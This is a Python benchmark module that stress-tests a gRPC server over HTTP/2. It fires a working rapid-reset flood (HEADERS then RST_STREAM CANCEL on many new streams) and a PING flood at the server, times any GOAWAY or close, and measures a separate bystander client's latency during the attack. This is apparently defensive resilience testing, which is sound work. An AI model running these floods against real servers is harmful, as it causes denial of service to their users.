"""Attacks on one HTTP/2 connection, and a bystander that times calls on another.

The attacker is plain sockets plus hyperframe and hpack (nothing of prism's): it writes a
prebuilt burst of frames as fast as the server takes them while a reader thread drains what
the server sends and notes when a GOAWAY arrives. The bystander is a separate process (a
grpcio client) making one echo call every 10 ms on its own connection, so its latencies are
not disturbed by the attacker's Python threads.
"""

from __future__ import annotations

import json
import socket
import subprocess
import sys
import threading
import time
from dataclasses import dataclass
from pathlib import Path

import hpack
import hyperframe.frame

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_CANCEL = 0x8


def _request_headers(path: str) -> list[tuple[bytes, bytes]]:
    return [
        (b":method", b"POST"),
        (b":scheme", b"http"),
        (b":path", path.encode()),
        (b":authority", b"bench"),
        (b"content-type", b"application/grpc"),
        (b"te", b"trailers"),
    ]


def rapid_reset_burst(path: str, streams: int) -> list[bytes]:
    """HEADERS then RST_STREAM(CANCEL) on ``streams`` new streams, in ~64 KiB chunks."""
    encoder = hpack.Encoder()
    chunks: list[bytes] = []
    chunk = bytearray()
    for i in range(streams):
        sid = 2 * i + 1
        block = encoder.encode(_request_headers(path))
        chunk += hyperframe.frame.HeadersFrame(sid, block, flags=["END_HEADERS"]).serialize()
        chunk += hyperframe.frame.RstStreamFrame(sid, error_code=_CANCEL).serialize()
        if len(chunk) >= 1 << 16:
            chunks.append(bytes(chunk))
            chunk.clear()
    if chunk:
        chunks.append(bytes(chunk))
    return chunks


def ping_burst(pings: int) -> list[bytes]:
    frames = b"".join(
        hyperframe.frame.PingFrame(0, opaque_data=i.to_bytes(8, "big")).serialize()
        for i in range(pings)
    )
    return [frames[i : i + (1 << 16)] for i in range(0, len(frames), 1 << 16)]


@dataclass
class AttackResult:
    #: Units (streams, pings) the attacker got into the socket before the server closed it.
    units_sent: int
    units_total: int
    #: Seconds from the first attack byte to the GOAWAY (None: none came).
    goaway_after_s: float | None
    goaway_code: int | None
    goaway_debug: bytes | None
    #: Seconds from the first attack byte until the server closed the connection, or the
    #: attacker gave up waiting (None: the server never closed it).
    closed_after_s: float | None
    duration_s: float
    received_bytes: int


def attack(host: str, port: int, chunks: list[bytes], units: int, linger_s: float) -> AttackResult:
    """Send the preface, then ``chunks`` (``units`` attack units in all) as fast as the server
    reads them; then wait up to ``linger_s`` for the server to close the connection."""
    sock = socket.create_connection((host, port))
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    ack = hyperframe.frame.SettingsFrame(0, flags=["ACK"])  # of the server's (sent first)
    sock.sendall(PREFACE + hyperframe.frame.SettingsFrame(0).serialize() + ack.serialize())
    state: dict[str, float | int | bytes | None] = {"goaway": None, "code": None, "debug": None}
    closed = threading.Event()
    received = [0]
    start = time.monotonic()

    def read() -> None:
        buffer = bytearray()
        while True:
            try:
                data = sock.recv(1 << 16)
            except OSError:
                data = b""
            if not data:
                closed.set()
                return
            received[0] += len(data)
            buffer += data
            while len(buffer) >= 9:
                length = int.from_bytes(buffer[:3], "big")
                if len(buffer) < 9 + length:
                    break
                if buffer[3] == 0x7 and state["goaway"] is None:  # GOAWAY
                    body = bytes(buffer[9 : 9 + length])
                    state["goaway"] = time.monotonic() - start
                    state["code"] = int.from_bytes(body[4:8], "big")
                    state["debug"] = body[8:]
                del buffer[: 9 + length]

    reader = threading.Thread(target=read, daemon=True)
    reader.start()
    sent_bytes = 0
    total_bytes = sum(len(c) for c in chunks)
    try:
        for chunk in chunks:
            sock.sendall(chunk)
            sent_bytes += len(chunk)
    except OSError:
        pass  # the server closed the connection
    closed.wait(linger_s)
    closed_after = time.monotonic() - start if closed.is_set() else None
    duration = time.monotonic() - start
    sock.close()
    reader.join(5)
    goaway = state["goaway"]
    code, debug = state["code"], state["debug"]
    return AttackResult(
        units_sent=round(units * sent_bytes / total_bytes),
        units_total=units,
        goaway_after_s=float(goaway) if isinstance(goaway, float) else None,
        goaway_code=code if isinstance(code, int) else None,
        goaway_debug=debug if isinstance(debug, bytes) else None,
        closed_after_s=closed_after,
        duration_s=duration,
        received_bytes=received[0],
    )


class Bystander:
    """``python -m bench.attack bystander``: one echo call per interval on its own connection,
    until stopped; the latencies come back as JSON."""

    def __init__(self, host: str, port: int, stubs: Path, interval_s: float = 0.01) -> None:
        argv = [sys.executable, "-m", "bench.attack", "bystander", host, str(port), str(stubs)]
        self._proc = subprocess.Popen(
            [*argv, str(interval_s)],
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            cwd=Path(__file__).resolve().parent.parent,
        )
        assert self._proc.stdout is not None
        if self._proc.stdout.readline().strip() != b"ready":
            raise RuntimeError("bystander did not start")

    def stop(self) -> dict[str, float | int]:
        """Latency percentiles (ms) of the calls made, and how many failed or timed out."""
        out, _ = self._proc.communicate(b"stop\n", timeout=60)
        result: dict[str, float | int] = json.loads(out)
        return result


def _bystander_main(host: str, port: int, stubs: str, interval_s: float) -> None:
    import grpc

    sys.path.insert(0, stubs)
    import echo_pb2  # type: ignore[import-not-found]

    channel = grpc.insecure_channel(f"{host}:{port}")
    call = channel.unary_unary(
        "/prism.bench.v1.Echo/Unary",
        request_serializer=echo_pb2.EchoMessage.SerializeToString,
        response_deserializer=echo_pb2.EchoMessage.FromString,
    )
    request = echo_pb2.EchoMessage(payload=b"x" * 100)
    call(request, timeout=10)  # connected before the attack starts
    stop = threading.Event()
    threading.Thread(target=lambda: (sys.stdin.readline(), stop.set()), daemon=True).start()
    print("ready", flush=True)
    latencies: list[float] = []
    failed = 0
    while not stop.is_set():
        t0 = time.perf_counter()
        try:
            call(request, timeout=10)
            latencies.append((time.perf_counter() - t0) * 1000)
        except grpc.RpcError:
            failed += 1
        stop.wait(interval_s)
    channel.close()
    latencies.sort()

    def pct(p: float) -> float:
        return latencies[min(len(latencies) - 1, int(p * len(latencies)))] if latencies else 0.0

    result = {
        "calls": len(latencies),
        "failed": failed,
        "p50_ms": pct(0.5),
        "p99_ms": pct(0.99),
        "max_ms": latencies[-1] if latencies else 0.0,
    }
    print(json.dumps(result), flush=True)


if __name__ == "__main__":
    if sys.argv[1:2] == ["bystander"]:
        _bystander_main(sys.argv[2], int(sys.argv[3]), sys.argv[4], float(sys.argv[5]))
